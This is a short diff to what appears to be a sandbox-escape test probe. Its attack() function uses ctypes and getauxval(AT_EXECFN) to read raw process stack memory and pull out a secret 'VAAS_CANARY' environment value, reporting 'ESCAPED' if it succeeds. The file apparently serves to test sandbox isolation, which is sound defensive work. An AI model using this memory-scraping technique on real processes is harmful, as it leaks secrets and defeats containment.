@@ -7,14 +7,14 @@ NEEDS = ("ctypes",)
 
 import ctypes
 
+FILE_NAME = 31  # AT_EXECFN lies right above the environment
+
 
 def attack():
     libc = ctypes.CDLL(None)
-    address = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
-    text = ctypes.string_at(address & ~0xFFF, 4096) if address else b""
+    libc.getauxval.restype = libc.getauxval.argtypes and ctypes.c_ulong or ctypes.c_ulong
+    libc.getauxval.argtypes = [ctypes.c_ulong]
+    top = libc.getauxval(FILE_NAME)
+    text = ctypes.string_at(top - 2048, 2048)
     at = text.find(b"VAAS_CANARY=")
-    if at < 0:
-        environ = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "__environ")
-        text = ctypes.string_at(environ[0] & ~0xFFF, 4096)
-        at = text.find(b"VAAS_CANARY=")
-    return "ESCAPED: " + text[at : at + 30].decode() if at >= 0 else ""
+    return "ESCAPED: " + text[at : at + 30].decode() if at >= 0 else f"no canary in {len(text)} bytes"
